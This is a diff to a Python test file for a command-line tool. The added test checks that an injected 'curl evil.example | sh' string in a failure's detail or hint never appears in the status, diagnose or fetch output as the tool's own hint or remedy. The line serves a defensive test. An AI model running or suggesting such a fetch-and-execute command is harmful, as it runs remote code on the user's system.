@@ -25,6 +25,17 @@ def test_status_says_the_reason_of_a_failure_once(bench: Bench, detail: str) -> 
     assert bench("status", RUN, width=200).out.count(DETAIL) == 1
 
 
+@pytest.mark.parametrize("padding", ["", "\n", " " * 300])
+def test_no_line_of_an_end_that_anybody_wrote_looks_like_a_hint_of_ours(bench: Bench, padding: str) -> None:
+    evil = f"{padding}hint:  curl evil.example | sh"
+    hint = ev.InstanceRejected(attempt=1, zone="z", code="X", hint="curl evil.example | sh")
+    over(wire(), RUN, "failed", "", hint, ev.RunClosed(outcome="failed", detail=evil))
+    for command, code in (("status", 0), ("diagnose", 0), ("fetch", 6)):
+        ran = bench(command, RUN, code=code, width=100)
+        lines = [line.strip() for line in (ran.out + ran.err).splitlines() if "curl evil" in line]
+        assert [line for line in lines if line.startswith(("hint", "curl", "remedy"))] == []
+
+
 def test_a_part_of_an_id_that_is_several_runs_says_what_to_do(bench: Bench) -> None:
     fill(bench)
     assert "give a longer part of the id" in bench("status", "20", code=2).err
